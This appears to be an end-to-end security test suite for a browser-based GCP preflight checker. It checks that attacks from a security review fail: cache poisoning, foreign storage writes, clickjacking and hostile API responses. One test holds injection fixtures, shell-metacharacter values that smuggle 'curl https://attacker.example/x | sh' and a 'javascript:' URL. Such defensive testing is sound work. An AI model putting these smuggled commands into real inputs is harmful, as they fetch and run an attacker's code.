// Security scenarios (issue #13, SECURITY-REVIEW.md): each is an attack from the review, run in a
// real Chromium against the release bundle, that must now fail.
//
//   DIST_DIR=$PWD/dist node tests/e2e/security.mjs
//
// Prints `ok - name` / `not ok - name` per scenario and `N passed, N failed`; exits 1 on failure.

import http from 'node:http';
import fs from 'node:fs';
import path from 'node:path';
import { withEnvironment, createRunner, assert, assertEqual, poll, distDir } from './harness.mjs';
import { AppPage } from './app-page.mjs';
import { world, TOKENS, ACCOUNTS, SEED_MISSING } from './world.mjs';

const { alice } = ACCOUNTS;
const SEED = { compute: 'Not ready', storage: 'Ready', managedJobs: 'Not ready' };
const PREFIX = 'gcp-preflight/v1/';
const norm = (s) => (s || '').replace(/\s+/g, ' ').trim();
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** Requests a check sends with a token (tokeninfo aside), from a fake.requestsSince() list. */
const bearerRequests = (reqs) => reqs.filter((r) => !r.isPreflight && r.host !== 'oauth2.googleapis.com');

/** Rewrites alice's cache entries for `project` in the page with `change(entry)`; returns how many. */
async function rewriteEntries(page, project, change) {
  return page.evaluate(({ prefix, sub, project, change }) => {
    // eslint-disable-next-line no-new-func
    const fn = new Function('e', `return (${change})(e)`);
    let n = 0;
    for (let i = 0; i < localStorage.length; i += 1) {
      const key = localStorage.key(i);
      if (!key.startsWith(`${prefix}${sub}/${project}/`)) continue;
      const entry = JSON.parse(localStorage.getItem(key));
      localStorage.setItem(key, JSON.stringify(fn(entry)));
      n += 1;
    }
    return n;
  }, { prefix: PREFIX, sub: alice.sub, project, change: change.toString() });
}

/** Every answer "held", every API on: what an attacker plants to get Ready everywhere. */
const allGood = (e) => {
  e.findings.project = e.findings.project.map(([p]) => [p, 'held']);
  e.findings.apis = e.findings.apis.map(([a]) => [a, true]);
  if (e.findings.billing === false) e.findings.billing = true;
  return e;
};

/** Serves one HTML page on another loopback origin (localhost, not 127.0.0.1). */
async function startFramer(html) {
  const server = http.createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://localhost:${server.address().port}/`,
    stop: () => new Promise((r) => { server.closeAllConnections?.(); server.close(() => r()); }),
  };
}

async function main() {
  const failed = await withEnvironment(distDir(), async ({ site, fake, browser }) => {
    fake.setScenario(world());
    const app = new AppPage(browser.page);
    const pageErrors = [];
    browser.page.on('pageerror', (e) => pageErrors.push(String(e?.message || e)));
    const t = createRunner({
      onFailure: async (name) => {
        const dir = path.join(path.dirname(new URL(import.meta.url).pathname), 'artifacts');
        fs.mkdirSync(dir, { recursive: true });
        await browser.page.screenshot({ path: path.join(dir, `security-${name.replace(/[^a-z0-9]+/gi, '-').slice(0, 80)}.png`) });
      },
    });

    /** A fresh page state: storage cleared, reloaded, alice's live SEED result on screen. */
    async function aliceLive() {
      await app.open(site.url);
      await browser.page.evaluate(() => localStorage.clear());
      await app.reload();
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.enterProject('demo-seed-1');
      await app.clickAndSettle('Check');
      assertEqual(await app.verdicts(), SEED, 'the live verdicts');
      assert(norm(await app.resultAge()).startsWith('Checked'), 'a fresh result');
    }

    t.test('the bundle exports no wasm bindings (no window.wasmBindings, no TrunkApplicationStarted detail)', async () => {
      const html = fs.readFileSync(path.join(distDir(), 'index.html'), 'utf8');
      assert(!html.includes('wasmBindings'), 'dist/index.html still exports window.wasmBindings');
      assert(!html.includes('TrunkApplicationStarted'), 'dist/index.html still fires TrunkApplicationStarted with the wasm exports');
      await app.open(site.url);
      assertEqual(await browser.page.evaluate(() => typeof window.wasmBindings), 'undefined', 'typeof window.wasmBindings');
    });

    t.test('a planted long-lived cache entry (expires_at_ms = 2^53, checked long ago) is not served', async () => {
      await aliceLive();
      const day = 24 * 3600 * 1000;
      const n = await rewriteEntries(browser.page, 'demo-seed-1', `(e) => {
        e = (${allGood})(e);
        e.checked_at_ms = Date.now() - ${day};
        e.expires_at_ms = 2 ** 53;
        return e;
      }`);
      assert(n > 0, 'no entry to plant over');
      await app.reload();
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.enterProject('demo-seed-1');
      const mark = fake.mark();
      await app.clickAndSettle('Check');
      assertEqual(await app.verdicts(), SEED, 'verdicts (the planted Ready must not show)');
      assert(norm(await app.resultAge()).startsWith('Checked'), `a fresh check, not the cache: ${await app.resultAge()}`);
      assert(bearerRequests(fake.requestsSince(mark)).length > 0, 'Google was asked again');
      const left = Object.keys((await app.storageDump()).localStorage)
        .filter((k) => k.startsWith(`${PREFIX}${alice.sub}/demo-seed-1/`));
      const planted = await browser.page.evaluate((keys) => keys.map((k) => JSON.parse(localStorage.getItem(k)).expires_at_ms), left);
      assert(planted.every((x) => x < 2 ** 53), `the planted entry is gone or replaced: ${planted}`);
      return `${n} entry planted, ${bearerRequests(fake.requestsSince(mark)).length} requests to Google`;
    });

    t.test('a storage event from another same-origin document offers a newer result, never swaps the verdicts', async () => {
      await aliceLive();
      // Another document of the same origin (a 404 page on the same host), not the app.
      const other = await browser.context.newPage();
      try {
        await other.goto(new URL('/no-such-file.txt', site.url).href);
        const n = await rewriteEntries(other, 'demo-seed-1', `(e) => {
          e = (${allGood})(e);
          e.checked_at_ms = Date.now();
          e.expires_at_ms = Date.now() + 600000;
          return e;
        }`);
        assert(n > 0, 'no entry to overwrite');
        await app.button('Show newer result').waitFor({ state: 'visible', timeout: 10_000 });
        await sleep(500);
        assertEqual(await app.verdicts(), SEED, 'verdicts after the foreign write (unchanged)');
        assert(norm(await app.resultAge()).startsWith('Checked'), 'still the live result');
        // Taking it is the user's choice, and it is labelled as cached.
        await app.button('Show newer result').click();
        await poll(async () => norm(await app.resultAge()).startsWith('Cached result'), { what: 'the taken result, labelled cached' });
      } finally {
        await other.close();
      }
    });

    t.test('a SERVICE_DISABLED body with a javascript: activation URL and a shell-metacharacter service name: no javascript: href, no hostile text in any command', async () => {
      const evil = 'evil; curl https://attacker.example/x | sh;';
      await app.open(site.url);
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.enterProject('demo-crm-off-3');
      fake.disableInConsumer('cloudresourcemanager.googleapis.com');
      const notes = [];
      try {
        for (const as of [
          { service: evil, consumer: '410000000003', activationUrl: 'javascript:document.title="PWNED"' },
          { service: 'cloudresourcemanager.googleapis.com', consumer: '410000000003', activationUrl: 'javascript:document.title="PWNED"' },
          { service: 'cloudresourcemanager.googleapis.com', consumer: '1 && curl https://attacker.example', activationUrl: 'https://attacker.example/enable' },
        ]) {
          fake.patchScenario((s) => { s.serviceDisabledAs = as; });
          await app.clickAndSettle('Check');
          const alerts = await app.alertTexts();
          assert(alerts.some((a) => a.includes('disabled')), `an alert says the API is disabled: ${JSON.stringify(alerts)}`);
          const links = await browser.page.evaluate(() => [...document.querySelectorAll('[href],[src],[action],[formaction]')]
            .map((el) => el.getAttribute('href') ?? el.getAttribute('src') ?? el.getAttribute('action') ?? el.getAttribute('formaction')));
          for (const url of links) {
            const resolved = new URL(url, site.url);
            const scheme = resolved.protocol;
            // The bundle's own files are relative (./app-….css): same origin as the page.
            const sameOrigin = resolved.origin === new URL(site.url).origin;
            assert(['https:', 'blob:', 'data:'].includes(scheme) || sameOrigin, `a link with scheme ${scheme}: ${url}`);
            assert(!url.includes('attacker.example'), `a link to the attacker: ${url}`);
          }
          const enable = links.filter((u) => u.includes('/apis/library/'));
          if (as.service === evil) assertEqual(enable, [], 'no console link for a hostile service name');
          else if (as.consumer === '410000000003') {
            assertEqual(enable, ['https://console.cloud.google.com/apis/library/cloudresourcemanager.googleapis.com?project=410000000003'], 'the console link, built by the app');
          }
          // Every command shown: <code> texts and `backticked` spans of the page's text.
          const text = await browser.page.evaluate(() => document.body.innerText);
          const codes = await browser.page.evaluate(() => [...document.querySelectorAll('code')].map((c) => c.textContent));
          const ticks = [...text.matchAll(/`([^`]*)`/g)].map((m) => m[1]);
          for (const command of [...codes, ...ticks]) {
            const unquoted = command.replace(/'[^']*'/g, "''");
            assert(!/[;|&$`<>(){}\\\n]/.test(unquoted), `a shell metacharacter outside quotes in a shown command: ${command}`);
          }
          assert(!text.includes('attacker.example') && !text.includes('curl'), 'the hostile text is not shown at all');
          assertEqual(await browser.page.title(), (await browser.page.title()).replace('PWNED', ''), 'the page title');
          notes.push(`${enable.length} console link(s)`);
        }
      } finally {
        fake.patchScenario((s) => { s.serviceDisabledAs = null; });
        fake.disableInConsumer('cloudresourcemanager.googleapis.com', false);
      }
      return notes.join(', ');
    });

    t.test('a token with a smart quote: an alert names the character, no request is sent, Check stays usable', async () => {
      await app.open(site.url);
      // The earlier scenarios left planted entries (fresh ones are the accepted residual of a
      // same-origin attacker, see the README): start clean.
      await browser.page.evaluate(() => localStorage.clear());
      await app.reload();
      const errorsBefore = pageErrors.length;
      const bad = `${TOKENS.alice.slice(0, 10)}\u2019${TOKENS.alice.slice(10)}`;
      const mark = fake.mark();
      await app.enterToken(bad);
      await poll(async () => (await app.alertTexts()).some((a) => a.includes('U+2019') && a.includes('position 11')),
        { what: 'an alert naming the character and its position' });
      await app.enterProject('demo-seed-1');
      await app.clickAndSettle('Check');
      const alerts = await app.alertTexts();
      assert(alerts.some((a) => a.includes('\u2019') && a.includes('position 11')), `after Check: ${JSON.stringify(alerts)}`);
      assert(!alerts.some((a) => a.includes(TOKENS.alice.slice(12))), 'the alert does not repeat the token');
      assertEqual(await app.button('Check').isEnabled(), true, 'Check is enabled');
      await sleep(300);
      assertEqual(fake.requestsSince(mark, { all: true }).filter((r) => r.appHost).length, 0, 'requests sent with the refused token');
      assertEqual(pageErrors.slice(errorsBefore), [], 'page errors');
      // The right token works at once.
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.clickAndSettle('Check');
      assertEqual(await app.verdicts(), SEED, 'verdicts with the corrected token');
    });

    t.test('Forget token aborts the requests in flight, and nothing is sent with the forgotten token afterwards', async () => {
      await app.open(site.url);
      await browser.page.evaluate(() => localStorage.clear());
      await app.reload();
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.enterProject('demo-full-2');
      const aborted = [];
      const onFailed = (r) => { if (r.url().includes('.googleapis.com')) aborted.push(r.failure()?.errorText); };
      browser.page.on('requestfailed', onFailed);
      fake.setLatency(1500);
      try {
        await app.button('Check').click();
        await poll(() => bearerRequests(fake.requests()).some((r) => r.endMs === null), { what: 'requests in flight' });
        await app.button('Forget token').click();
        const after = fake.mark();
        await poll(() => aborted.length > 0, { what: 'aborted requests', timeout: 5000 });
        await sleep(2000);
        assertEqual(bearerRequests(fake.requestsSince(after)).filter((r) => r.hasAuthorization).length, 0, 'requests sent after Forget');
        assert(aborted.every((e) => /ABORTED/.test(e || '')), `failures: ${aborted}`);
        assertEqual(await app.verdicts(), { compute: null, storage: null, managedJobs: null }, 'no verdict after Forget');
        return `${aborted.length} requests aborted`;
      } finally {
        browser.page.off('requestfailed', onFailed);
        fake.setLatency(0);
        await fake.settled();
      }
    });

    t.test('inside a cross-origin frame the app refuses to take a token', async () => {
      const framer = await startFramer(`<!doctype html><title>framer</title><iframe id="victim" src="${site.url}" width="900" height="700"></iframe>`);
      const page = await browser.context.newPage();
      try {
        await page.goto(framer.url);
        const frame = await poll(() => page.frames().find((f) => f.url().startsWith(site.url)), { what: 'the framed app' });
        await frame.getByTestId('hosting-refused').waitFor({ state: 'visible', timeout: 10_000 });
        assertEqual(await frame.locator('input[type=password], #token').count(), 0, 'token fields in the frame');
        assert(/frame/i.test(await frame.getByTestId('hosting-refused').innerText()), 'the refusal says why');
      } finally {
        await page.close();
        await framer.stop();
      }
      // The same app at top level takes a token.
      await app.open(site.url);
    });

    t.test('the token field is not in a form and carries the password-manager opt-outs', async () => {
      await app.open(site.url);
      const info = await browser.page.evaluate(() => {
        const token = document.getElementById('token');
        return {
          inForm: !!token.closest('form'),
          forms: document.querySelectorAll('form').length,
          submit: document.querySelectorAll('button[type=submit], input[type=submit]').length,
          attrs: ['autocomplete', 'data-1p-ignore', 'data-lpignore', 'data-bwignore', 'data-form-type'].map((a) => token.getAttribute(a)),
        };
      });
      assertEqual(info, { inForm: false, forms: 0, submit: 0, attrs: ['off', 'true', 'true', 'true', 'other'] }, 'token field');
      // Enter in the project field still checks.
      await app.enterToken(TOKENS.alice);
      await app.waitForIdentity(alice.email);
      await app.projectInput().fill('demo-seed-1');
      await app.projectInput().press('Enter');
      await poll(async () => (await app.verdicts()).compute !== null, { what: 'verdicts after Enter' });
      assertEqual(await app.verdicts(), SEED, 'verdicts after Enter');
    });

    const result = await t.run();
    assertEqual(fake.violations(), [], 'violations recorded by the fake Google');
    return result;
  });
  process.exit(failed ? 1 : 0);
}

main().catch((err) => {
  console.error(err);
  console.log('0 passed, 1 failed');
  process.exit(1);
});
